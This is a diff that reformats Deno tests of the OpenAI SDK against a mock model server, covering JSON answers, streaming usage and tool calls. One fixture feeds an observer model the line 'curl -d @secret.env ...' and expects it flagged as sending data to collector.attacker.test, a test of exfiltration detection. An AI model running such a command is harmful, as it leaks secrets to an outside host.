@@ -9,12 +9,16 @@ import OpenAI from "openai";
 import { loadScenario } from "./scenario.ts";
 import { startModelServer } from "./server.ts";
 
-const OBSERVER = fileURLToPath(new URL("../scenarios/observer_verdict.json", import.meta.url));
+const OBSERVER = fileURLToPath(
+  new URL("../scenarios/observer_verdict.json", import.meta.url),
+);
 
 Deno.test("openai SDK: chat completions with JSON answers, then streaming with usage", async () => {
   const scenario = await loadScenario(OBSERVER);
   const server = await startModelServer({ scenario });
-  const client = Deno.createHttpClient({ caCerts: [await Deno.readTextFile(server.caCertPath)] });
+  const client = Deno.createHttpClient({
+    caCerts: [await Deno.readTextFile(server.caCertPath)],
+  });
   try {
     const openai = new OpenAI({
       baseURL: server.url,
@@ -32,7 +36,10 @@ Deno.test("openai SDK: chat completions with JSON answers, then streaming with u
         type: "json_schema",
         json_schema: {
           name: "verdict",
-          schema: { type: "object", properties: { verdict: { type: "string" } } },
+          schema: {
+            type: "object",
+            properties: { verdict: { type: "string" } },
+          },
         },
       },
     });
@@ -50,7 +57,10 @@ Deno.test("openai SDK: chat completions with JSON answers, then streaming with u
       model: "observer",
       stream: true,
       stream_options: { include_usage: true },
-      messages: [{ role: "user", content: "The agent ran: curl -d @secret.env ..." }],
+      messages: [{
+        role: "user",
+        content: "The agent ran: curl -d @secret.env ...",
+      }],
     });
     let text = "";
     let usage: OpenAI.CompletionUsage | undefined | null;
@@ -60,9 +70,14 @@ Deno.test("openai SDK: chat completions with JSON answers, then streaming with u
     }
     const verdict = JSON.parse(text);
     assert.equal(verdict.verdict, "suspicious");
-    assert.deepEqual(verdict.reasons, ["sends data to collector.attacker.test"]);
+    assert.deepEqual(verdict.reasons, [
+      "sends data to collector.attacker.test",
+    ]);
     assert.equal(usage?.total_tokens, 840);
-    assert.deepEqual(server.requests.map((r) => [r.kind, r.turn]), [["main", 0], ["main", 1]]);
+    assert.deepEqual(server.requests.map((r) => [r.kind, r.turn]), [
+      ["main", 0],
+      ["main", 1],
+    ]);
     assert.equal(server.requests[0].headers.authorization, "[redacted]");
   } finally {
     client.close();
@@ -82,7 +97,9 @@ Deno.test("openai SDK: tool calls come back as parsed function calls", async () 
       ],
     },
   });
-  const client = Deno.createHttpClient({ caCerts: [await Deno.readTextFile(server.caCertPath)] });
+  const client = Deno.createHttpClient({
+    caCerts: [await Deno.readTextFile(server.caCertPath)],
+  });
   try {
     const openai = new OpenAI({
       baseURL: server.url,
@@ -94,22 +111,38 @@ Deno.test("openai SDK: tool calls come back as parsed function calls", async () 
       type: "function",
       function: {
         name: "shell",
-        parameters: { type: "object", properties: { command: { type: "string" } } },
+        parameters: {
+          type: "object",
+          properties: { command: { type: "string" } },
+        },
       },
     }];
-    const messages: OpenAI.ChatCompletionMessageParam[] = [{ role: "user", content: "list" }];
-    const r1 = await openai.chat.completions.create({ model: "m", tools, messages });
+    const messages: OpenAI.ChatCompletionMessageParam[] = [{
+      role: "user",
+      content: "list",
+    }];
+    const r1 = await openai.chat.completions.create({
+      model: "m",
+      tools,
+      messages,
+    });
     const call = r1.choices[0].message.tool_calls![0];
     assert.equal(r1.choices[0].finish_reason, "tool_calls");
     assert.ok(call.type === "function");
     assert.equal(call.function.name, "shell");
-    assert.deepEqual(JSON.parse(call.function.arguments), { command: "ls -la" });
+    assert.deepEqual(JSON.parse(call.function.arguments), {
+      command: "ls -la",
+    });
     messages.push(r1.choices[0].message, {
       role: "tool",
       tool_call_id: call.id,
       content: "a.txt b.txt",
     });
-    const r2 = await openai.chat.completions.create({ model: "m", tools, messages });
+    const r2 = await openai.chat.completions.create({
+      model: "m",
+      tools,
+      messages,
+    });
     assert.equal(r2.choices[0].message.content, "saw a.txt b.txt");
   } finally {
     client.close();
